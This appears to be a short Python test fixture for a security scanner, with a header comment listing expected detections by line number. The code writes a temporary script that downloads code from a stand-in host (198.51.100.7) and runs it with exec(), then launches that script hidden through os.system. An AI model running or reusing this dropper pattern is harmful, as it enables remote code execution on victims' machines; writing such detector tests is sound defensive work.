# expect: 4 code-dropped, 6 shell-with-built-command
import tempfile, os, sys
t = tempfile.NamedTemporaryFile(delete=False)
t.write(b"from urllib.request import urlopen as _u;exec(_u('http://198.51.100.7/x').read())")
t.close()
os.system(f'start pythonw.exe {t.name}')
